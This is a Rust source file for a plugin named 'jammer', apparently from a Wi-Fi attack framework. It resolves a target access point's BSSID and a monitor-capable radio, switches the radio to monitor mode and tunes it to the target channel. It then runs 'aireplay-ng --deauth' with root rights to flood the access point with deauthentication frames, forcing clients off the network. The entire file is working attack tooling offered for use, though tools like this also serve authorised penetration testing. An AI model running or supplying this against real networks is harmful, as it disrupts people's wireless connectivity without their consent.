//! Targeted deauthentication bursts against one access point.

use crate::{
    config::Config,
    error::Error,
    exec::{argv, DefaultExec, Exec, ExecOpts},
    iface::InterfaceController,
    plugin::Plugin,
    state::{context::keys, RunContext},
};
use anyhow::Result;
use async_trait::async_trait;
use log::{info, warn};

pub struct JammerPlugin {
    config: Config,
    exec: Box<dyn Exec>,
    controller: InterfaceController,
}

impl JammerPlugin {
    pub fn new(config: Config) -> Self {
        Self {
            config,
            exec: Box::new(DefaultExec),
            controller: InterfaceController::default(),
        }
    }

    fn resolve_target(&self, ctx: &RunContext, args: &[String]) -> Result<String> {
        args.first()
            .cloned()
            .or_else(|| ctx.get_str(keys::TARGET_BSSID))
            .ok_or_else(|| {
                Error::TargetSelectionFailed(
                    "jammer needs a BSSID argument or --target-bssid".into(),
                )
                .into()
            })
    }

    fn resolve_radio(&self, ctx: &RunContext) -> Result<String> {
        if let Some(name) = ctx.get_str(keys::DEAUTH_IFACE) {
            return Ok(name);
        }
        ctx.state()
            .interfaces_filtered(true, true, true)
            .first()
            .map(|i| i.name().clone())
            .ok_or_else(|| {
                Error::RoleAssignmentFailed("no monitor-capable interface available".into()).into()
            })
    }
}

#[async_trait]
impl Plugin for JammerPlugin {
    fn name(&self) -> &str {
        "jammer"
    }

    async fn run(&self, ctx: &RunContext, args: &[String]) -> Result<bool> {
        let bssid = self.resolve_target(ctx, args)?;
        let radio = self.resolve_radio(ctx)?;

        let (monitor, we_disabled_nm) = self
            .controller
            .enable_monitor_mode(ctx.state(), &radio)
            .await?;

        if let Some(channel) = ctx.get_u64(keys::TARGET_CHANNEL) {
            self.exec
                .run_unchecked(
                    &argv([
                        "iw",
                        "dev",
                        &monitor,
                        "set",
                        "channel",
                        &channel.to_string(),
                    ]),
                    &ExecOpts::root_unchecked(),
                )
                .await;
        }

        let count = ctx
            .get_u64(keys::DEAUTH_COUNT)
            .unwrap_or(self.config.deauth_count() as u64);
        info!("Jamming {} with {} deauth frames", bssid, count);
        let burst = self
            .exec
            .run(
                &argv([
                    "aireplay-ng",
                    "--deauth",
                    &count.to_string(),
                    "-a",
                    &bssid,
                    &monitor,
                ]),
                &ExecOpts::root(),
            )
            .await;

        self.controller
            .restore_interface_state(ctx.state(), &radio, we_disabled_nm, &monitor)
            .await;

        match burst {
            Ok(_) => Ok(true),
            Err(e) => {
                warn!("Deauth burst failed: {:#}", e);
                Ok(false)
            }
        }
    }
}
